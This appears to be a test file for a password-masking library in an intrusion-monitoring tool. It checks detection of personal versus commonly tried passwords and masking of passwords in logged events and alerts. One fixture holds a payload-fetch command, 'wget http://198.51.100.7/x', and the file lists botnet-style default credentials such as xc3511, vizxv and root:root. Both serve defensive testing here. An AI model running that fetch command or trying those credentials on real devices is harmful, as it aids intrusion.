import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  mask,
  masked,
  maskedNotice,
  maskedStep,
  maskedValue,
  maskText,
  passwordsOf,
} from '../../src/lib/masking.ts';
import { looksPersonal } from '../../src/lib/personal-password.ts';
import { makeAlert, makeEvent, makeNotice } from '../support/store/contract/records.ts';

const personal = 'Gartenzwerg#77';

describe('a password', () => {
  it('looks like a person’s unless programs try it everywhere', () => {
    for (const password of [
      personal,
      'Sommer2026!',
      'correct horse battery',
      'Kx9#mP2q',
      'Мой-пароль-7',
      'jdoe2024',
    ])
      assert.equal(looksPersonal(password), true, password);
    for (const password of [
      ...[
        '',
        '123456',
        'admin',
        'Admin123',
        'P@ssw0rd',
        'Passw0rd!2024',
        'welcome1',
        'rootroot',
        'changeme123!',
      ],
      ...[
        'qwerty123',
        '1qaz2wsx',
        'zxcvbnm',
        'aaaaaaaa1',
        'xc3511',
        '7ujMko0admin',
        'vizxv',
        'a\u0000bcdefgh',
      ],
      'd41d8cd98f00b204e9800998ecf8427e',
      'x'.repeat(200),
    ])
      assert.equal(looksPersonal(password), false, password);
    assert.equal(looksPersonal('jamshid123', 'jamshid'), false);
    for (const hostile of ['a'.repeat(1e6), 'adminadmin'.repeat(1e5), '\ud800'.repeat(64)])
      assert.equal(typeof looksPersonal(hostile), 'boolean');
  });
});

describe('masking', () => {
  it('finds passwords in fields, forms and JSON, and masks every writing of them', () => {
    const url = encodeURIComponent(personal);
    const event = makeEvent({
      user_id: 'u',
      kind: 'http.request',
      payload: `POST / HTTP/1.1\r\n\r\nuser=a&password=${url}&x=1`,
      extra: { logdata: { PASSWORD: personal, deep: [{ note: `<${personal}>` }] }, [personal]: 1 },
    });
    assert.ok(passwordsOf(event).includes(personal));
    const text = JSON.stringify(masked(event));
    assert.ok(!text.includes(personal) && !text.includes(url));
    assert.match(text, new RegExp(mask));
    assert.ok(JSON.stringify(event).includes(personal), 'the record itself stays as it is');
    const json = makeEvent({ user_id: 'u', payload: `{"user":"a","password": "${personal}"}`, extra: null });
    assert.ok(!masked(json).payload.includes(personal));
  });

  it('leaves what holds none as it is', () => {
    const event = makeEvent({ user_id: 'u' });
    assert.equal(masked(event), event);
    const alert = makeAlert({
      user_id: 'u',
      payload: 'wget http://198.51.100.7/x',
      attack_type: 'CommandExecution',
    });
    assert.equal(masked(alert), alert);
  });

  it('masks alerts, steps of sessions and evidence that was cut', () => {
    const evidence = [{ reason: 0, field: 'extra.password', text: personal.slice(0, 9) }];
    const alert = makeAlert({
      user_id: 'u',
      payload: `j.doe:${personal}`,
      reasons: [`tried ${personal}`],
      evidence,
    });
    const text = JSON.stringify(masked(alert));
    assert.ok(!text.includes(personal) && !text.includes(personal.slice(0, 9)));
    const notice = maskedNotice(makeNotice({ payload: `j.doe:${personal}`, reasons: [`tried ${personal}`] }));
    assert.ok(!JSON.stringify(notice).includes(personal));
    const step = { kind: 'login.failed' as const, text: `j.doe:${personal}`, tactic: null };
    assert.equal(maskedStep(step).text, `j.doe:${mask}`);
    assert.deepEqual(maskedValue('credential', `a:${personal}`), { value: `a:${mask}`, masked: true });
    assert.deepEqual(maskedValue('credential', 'root:root'), { value: 'root:root', masked: false });
    assert.equal(maskText('a$&b', ['a$&b']), mask);
  });
});
